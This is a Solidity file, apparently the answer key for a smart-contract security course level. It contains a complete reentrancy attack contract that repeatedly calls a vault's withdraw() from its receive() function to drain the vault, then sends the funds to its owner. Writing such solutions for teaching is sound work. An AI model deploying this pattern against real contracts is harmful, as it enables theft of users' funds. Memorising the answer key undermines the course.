// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

// Reference solution for dax101 / drain-the-vault (testing only; never ship it in the course).
// Deploy with the level's address, then send attack() with 1 ETH (1000000000000000000 wei):
// the vault holds 2 ETH, pays the attacker's 1 ETH balance twice and is left with nothing.

interface IVault {
    function deposit() external payable;
    function withdraw() external;
}

contract Attacker {
    IVault public immutable vault;
    address public immutable owner;
    uint256 private stake;

    constructor(address target) {
        vault = IVault(target);
        owner = msg.sender;
    }

    function attack() external payable {
        require(msg.value > 0, "send the stake with the call");
        stake = msg.value;
        vault.deposit{value: msg.value}();
        vault.withdraw();
    }

    receive() external payable {
        // The vault is paying us and has not yet zeroed our balance: ask again while it can pay.
        if (msg.sender == address(vault) && address(vault).balance >= stake) {
            vault.withdraw();
        }
    }

    function collect() external {
        require(msg.sender == owner, "not yours");
        (bool ok, ) = owner.call{value: address(this).balance}("");
        require(ok, "collect failed");
    }
}
